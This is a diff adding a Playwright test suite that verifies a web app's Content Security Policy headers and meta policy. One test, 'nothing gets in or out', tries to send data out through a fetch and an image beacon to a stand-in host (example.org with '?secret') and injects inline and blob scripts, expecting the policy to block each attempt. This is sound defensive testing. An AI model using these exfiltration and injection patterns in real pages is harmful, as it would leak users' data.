@@ -1,0 +1,90 @@
+import type { Page } from 'playwright/test';
+import { metaPolicy, securityHeaders } from '../scripts/hosting/headers.ts';
+import { host } from './support/host.ts';
+import { fillRecord } from './support/records.ts';
+import { expect, test } from './support/test.ts';
+import { words } from './support/words.ts';
+
+/** Every violation of the page's policy, from its first moment on. */
+async function violations(page: Page): Promise<string[]> {
+  const found: string[] = [];
+  await page.exposeFunction('tellViolation', (violation: string) => found.push(violation));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) => {
+      const { tellViolation } = window as unknown as { tellViolation: (violation: string) => void };
+      tellViolation(`${violatedDirective}: ${blockedURI} in ${sourceFile}`);
+    });
+  });
+  return found;
+}
+
+test('the host sends every header', async ({ request }) => {
+  const response = await request.get('./');
+  for (const [name, value] of Object.entries(securityHeaders)) {
+    expect(response.headers()[name.toLowerCase()]).toBe(value);
+  }
+});
+
+for (const sent of ['with headers', 'by the page alone']) {
+  test(`nothing the app does breaks the policy, ${sent}`, async ({ app, page }) => {
+    const server = sent === 'with headers' ? undefined : await host();
+    const found = await violations(page);
+    await app.start(server?.url);
+    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
+      'content',
+      metaPolicy,
+    );
+    await app.modelReady();
+    await app.classify.chooseSample();
+    await app.classify.classify();
+    await app.classify.saved();
+    await fillRecord(page, 2);
+    await app.go('history');
+    await app.history.entries.first().click();
+    await page.getByRole('textbox', { name: words('history_note_label') }).fill('A note.');
+    await page.getByRole('button', { name: words('history_delete') }).click();
+    await page
+      .getByRole('alertdialog')
+      .getByRole('button', { name: words('confirm_cancel') })
+      .click();
+    await app.go('settings');
+    await app.go('about');
+    expect(found).toEqual([]);
+    server?.close();
+  });
+}
+
+test('nothing gets in or out', async ({ app, page, problems }) => {
+  problems.allow(/Content Security Policy|Refused|violates|connect|Fetch API|request: https:\/\/example/i);
+  const found = await violations(page);
+  await app.start();
+  const outcome = await page.evaluate(async () => {
+    const sent = await fetch('https://example.org/?secret').then(
+      () => true,
+      () => false,
+    );
+    const beacon = await new Promise<boolean>((resolve) => {
+      const image = new Image();
+      image.onload = () => resolve(true);
+      image.onerror = () => resolve(false);
+      image.src = 'https://example.org/pixel.gif?secret';
+    });
+    const script = document.createElement('script');
+    script.textContent = 'window.injected = true';
+    document.head.append(script);
+    const made = document.createElement('script');
+    made.src = URL.createObjectURL(new Blob(['window.injected = true']));
+    await new Promise((resolve) => {
+      made.onload = made.onerror = resolve;
+      document.head.append(made);
+    });
+    return { sent, beacon, injected: 'injected' in window };
+  });
+  expect(outcome).toEqual({ sent: false, beacon: false, injected: false });
+  // Each is told twice: by the policy of the page and by that of the headers.
+  expect([...new Set(found.map((violation) => violation.split(':')[0]))].sort()).toEqual([
+    'connect-src',
+    'img-src',
+    'script-src-elem',
+  ]);
+});
